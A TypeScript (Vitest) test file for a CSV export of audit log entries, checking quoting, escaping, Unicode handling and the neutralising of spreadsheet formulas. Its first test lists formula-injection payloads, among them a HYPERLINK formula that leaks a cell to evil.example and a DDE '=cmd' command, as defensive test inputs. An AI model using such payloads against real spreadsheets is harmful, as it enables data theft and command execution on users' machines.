import { describe, expect, it } from "vitest";
import { parseCsv } from "../../../../tests/harness/csv.ts";
import { AUDIT_CSV_HEADER, auditCsvRecord, auditCsvStart, csvCell, csvRecord } from "./auditCsv.ts";
import type { AuditEntry } from "./auditLog.ts";

describe("CSV cells", () => {
  it("a cell that a spreadsheet would run as a formula starts with a quote mark and stays text", () => {
    for (const formula of ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]) {
      const cell = csvCell(formula);
      const [[read]] = parseCsv(`${cell}\r\n`) as [[string]];
      expect(read).toBe(`'${formula}`);
      // what a spreadsheet sees first is the quote mark, never the formula's sign
      expect(read[0]).toBe("'");
    }
  });

  it("ordinary text, and signs inside a cell, are left as they are", () => {
    for (const plain of ["user.signIn", "203.0.113.7", "2001:db8::1", "a=b", "x-y", "mail@example.test", "'already quoted"]) {
      expect(parseCsv(`${csvCell(plain)}\r\n`)).toEqual([[plain]]);
    }
  });

  it("every cell is quoted; inner quotes are doubled; commas and line breaks stay inside their cell", () => {
    expect(csvCell('say "hi", then leave')).toBe('"say ""hi"", then leave"');
    const tricky = ['he said "no"', "one, two", "line one\nline two", "crlf\r\ninside", '",="', ""];
    const text = csvRecord(tricky) + csvRecord(["second", "row", null, "", "", ""]);
    expect(parseCsv(text)).toEqual([tricky, ["second", "row", "", "", "", ""]]);
  });

  it("a missing value is an empty cell", () => {
    expect(csvCell(null)).toBe('""');
  });

  it("non-ASCII text survives: accents, scripts, emoji and joiners", () => {
    const names = ["Zoë Ångström", "تحقق", "山田太郎", "🎥👩‍💻", "Ⅻ"];
    expect(parseCsv(csvRecord(names))).toEqual([names]);
  });
});

describe("audit entries as CSV", () => {
  const entry: AuditEntry = {
    id: "42",
    createdAt: new Date("2026-12-03T21:05:00.123Z"),
    actor: { id: "0b7c6a4e-9f59-4c3b-9a6a-1f0e2d3c4b5a", name: "=Mallory", email: "m@example.test" },
    action: "moderation.ban",
    targetType: "device",
    targetId: "-dev-1",
    reason: '+spam, "links"',
    ip: "203.0.113.7",
    data: '{"reason":"+spam, \\"links\\"","minutes":60}',
  };

  it("starts with a byte order mark (Excel reads UTF-8 then) and the header", () => {
    const start = auditCsvStart();
    expect(start.startsWith("\uFEFF")).toBe(true);
    expect(parseCsv(start)).toEqual([AUDIT_CSV_HEADER]);
  });

  it("one record per entry, its cells in the header's order, formula-like ones disarmed", () => {
    const [cells] = parseCsv(auditCsvRecord(entry));
    expect(cells).toEqual([
      "42",
      "2026-12-03T21:05:00.123Z",
      entry.actor!.id,
      "'=Mallory",
      "m@example.test",
      "moderation.ban",
      "device",
      "'-dev-1",
      '\'+spam, "links"',
      "203.0.113.7",
      entry.data,
    ]);
    expect(cells).toHaveLength(AUDIT_CSV_HEADER.length);
  });

  it("an entry with no actor, target, reason, ip or data has empty cells there", () => {
    const [cells] = parseCsv(auditCsvRecord({ ...entry, actor: null, targetType: null, targetId: null, reason: null, ip: null, data: null }));
    expect(cells).toEqual(["42", "2026-12-03T21:05:00.123Z", "", "", "", "moderation.ban", "", "", "", "", ""]);
  });
});
